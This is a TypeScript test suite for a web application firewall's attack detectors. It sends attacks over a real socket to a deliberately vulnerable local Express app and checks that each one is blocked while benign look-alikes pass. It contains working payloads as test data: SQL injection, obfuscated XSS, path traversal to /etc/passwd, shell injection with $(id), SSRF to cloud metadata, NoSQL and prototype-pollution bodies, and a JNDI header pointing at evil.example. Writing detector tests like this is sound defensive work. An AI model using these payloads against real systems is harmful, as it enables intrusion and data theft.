/**
 * The detectors against attacks sent the way an attacker sends them: over a real socket to a real
 * Express app on 127.0.0.1, through Express's own query-string and JSON parsing. The same attacks
 * through the real engine and adapters are in adversarial/attacks-firewall.test.ts; here a ten-line
 * guard calls the detectors' public API on what Express parsed (query values,
 * the JSON body walked, the raw path, User-Agent/Referer/cookies) and answers 403 on a match. Each
 * attack is first shown to reach the unguarded app's handler, so a 403 proves the detector stopped it.
 */
import { strict as assert } from 'node:assert';
import { request as httpRequest, type Server } from 'node:http';
import { after, before, test } from 'node:test';
import express, { type NextFunction, type Request, type Response } from 'express';
import { ALL_ATTACK_CATEGORIES, detectAttack, detectInJson, type AttackMatch } from '../src/attacks/index.js';

function guard(req: Request, res: Response, next: NextFunction): void {
  let hit: AttackMatch | null = detectAttack(req.path, 'path', ALL_ATTACK_CATEGORIES);
  // The parsed query is walked like JSON: qs turns `a[b][c]=1` into nested objects whose keys matter.
  hit ??= detectInJson(req.query, ALL_ATTACK_CATEGORIES, 'query');
  if (req.body !== undefined) hit ??= detectInJson(req.body, ALL_ATTACK_CATEGORIES);
  for (const h of ['user-agent', 'referer', 'cookie'] as const) {
    const v = req.headers[h];
    if (typeof v === 'string') hit ??= detectAttack(v, h === 'cookie' ? 'cookie' : 'header', ALL_ATTACK_CATEGORIES);
  }
  if (hit) res.status(403).json({ blocked: hit.category, reason: hit.reason, snippet: hit.snippet });
  else next();
}

function app(guarded: boolean) {
  const a = express();
  a.set('query parser', 'extended'); // the qs parser that turns user[$ne]=1 into an object
  a.use(express.json());
  if (guarded) a.use(guard);
  // Deliberately vulnerable handlers: they only report what they would have run.
  a.get('/search', (req, res) => void res.send(`SELECT * FROM items WHERE name = '${String(req.query.q)}'`));
  a.get('/fetch', (req, res) => void res.send(`would fetch ${String(req.query.url)}`));
  a.get('/file', (req, res) => void res.send(`would read uploads/${String(req.query.name)}`));
  a.post('/login', (req, res) => void res.json({ query: req.body }));
  a.get('/ping', (req, res) => void res.send(`ping -c 1 ${String(req.query.host)}`));
  a.get('/{*rest}', (req, res) => void res.send(`page ${req.path}`));
  return a;
}

const ports = { plain: 0, guarded: 0 };
const servers: Server[] = [];
before(async () => {
  for (const kind of ['plain', 'guarded'] as const) {
    const server = app(kind === 'guarded').listen(0, '127.0.0.1');
    await new Promise<void>((resolve) => server.once('listening', () => resolve()));
    servers.push(server);
    ports[kind] = (server.address() as { port: number }).port;
  }
});
after(() => Promise.all(servers.map((s) => new Promise((r) => s.close(r)))));

/** Sends the raw request target as written (no client-side normalisation of `..` or encodings). */
function send(port: number, path: string, opts: { method?: string; body?: string; headers?: Record<string, string> } = {}): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port, path, method: opts.method ?? 'GET', headers: { ...(opts.body ? { 'content-type': 'application/json' } : {}), ...opts.headers } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end(opts.body);
  });
}

async function blocked(path: string, category: string, opts?: Parameters<typeof send>[2]): Promise<void> {
  const plain = await send(ports.plain, path, opts);
  assert.equal(plain.status, 200, `the unguarded app serves ${path}`);
  const guarded = await send(ports.guarded, path, opts);
  assert.equal(guarded.status, 403, `${path} passed the guard: ${guarded.text}`);
  assert.equal(JSON.parse(guarded.text).blocked, category);
}

async function passes(path: string, opts?: Parameters<typeof send>[2]): Promise<void> {
  const guarded = await send(ports.guarded, path, opts);
  assert.equal(guarded.status, 200, `${path} was blocked: ${guarded.text}`);
}

test("GET /search?q=x'OR'1'='1 and tab/comment-spaced UNION SELECT are blocked on Express; O'Brien and 'select a plan' pass", async () => {
  await blocked(`/search?q=${encodeURIComponent("x'OR'1'='1")}`, 'sqli');
  await blocked('/search?q=%27%09UNION%09SELECT%09password%09FROM%09users--', 'sqli');
  await blocked('/search?q=1%27/**/or/**/1=1--', 'sqli');
  await blocked('/search?q=%2527%2520OR%25201%253D1--', 'sqli'); // double-encoded
  await passes(`/search?q=${encodeURIComponent("O'Brien")}`);
  await passes(`/search?q=${encodeURIComponent('select a plan')}`);
});

test('GET /page?c=<details open ontoggle=…> and a javascript: URL with an entity are blocked; a <b> forum post passes', async () => {
  await blocked(`/search?q=${encodeURIComponent('<details open ontoggle=alert(1)>')}`, 'xss');
  await blocked(`/search?q=${encodeURIComponent('jav&#x09;ascript:alert(1)')}`, 'xss');
  await passes(`/search?q=${encodeURIComponent('I <3 this, <b>really</b>')}`);
});

test('GET /file?name=..%252f..%252fetc/passwd and /static/..%2f..%2f..%2fetc/passwd are blocked; docs/../readme.txt passes', async () => {
  await blocked('/file?name=..%252f..%252f..%252fetc%252fpasswd', 'traversal');
  await blocked('/static/..%2f..%2f..%2fetc/passwd', 'traversal');
  await passes(`/file?name=${encodeURIComponent('docs/../readme.txt')}`);
});

test('GET /ping?host=127.0.0.1;cat${IFS}/etc/passwd and $(id) are blocked; "use ls -la" passes', async () => {
  await blocked(`/ping?host=${encodeURIComponent('127.0.0.1;cat${IFS}/etc/passwd')}`, 'shell');
  await blocked(`/ping?host=${encodeURIComponent('$(id)')}`, 'shell');
  await passes(`/ping?host=${encodeURIComponent('use ls -la')}`);
});

test('GET /fetch?url=http://0x7f.1/ and http://[::ffff:127.0.0.1]/ are blocked; a public URL passes', async () => {
  await blocked(`/fetch?url=${encodeURIComponent('http://0x7f.1/admin')}`, 'ssrf');
  await blocked(`/fetch?url=${encodeURIComponent('http://[::ffff:127.0.0.1]/')}`, 'ssrf');
  await blocked(`/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, 'ssrf');
  await passes(`/fetch?url=${encodeURIComponent('https://example.com/a?b=1')}`);
});

test('POST /login {"password":{"$ne":null}} and GET ?user[$ne]=1 are blocked; a password with $ passes', async () => {
  await blocked('/login', 'nosql', { method: 'POST', body: JSON.stringify({ user: 'admin', password: { $ne: null } }) });
  await blocked('/search?q[$ne]=1', 'nosql');
  await passes('/login', { method: 'POST', body: JSON.stringify({ user: 'ann', password: 'pa$$word' }) });
});

test('POST {"__proto__":{"isAdmin":true}} and GET ?constructor[prototype][x]=1 are blocked', async () => {
  await blocked('/login', 'prototype', { method: 'POST', body: '{"user":"ann","__proto__":{"isAdmin":true}}' });
  await blocked('/search?constructor[prototype][isAdmin]=1', 'prototype');
});

test('a ${jndi:…} User-Agent and a {{7*7}} cookie are blocked; a {{name}} placeholder passes', async () => {
  await blocked('/', 'template', { headers: { 'user-agent': '${${lower:j}ndi:ldap://evil.example/a}' } });
  await blocked('/', 'template', { headers: { cookie: 'theme={{7*7}}' } });
  await passes(`/search?q=${encodeURIComponent('Dear {{first_name}}')}`);
});
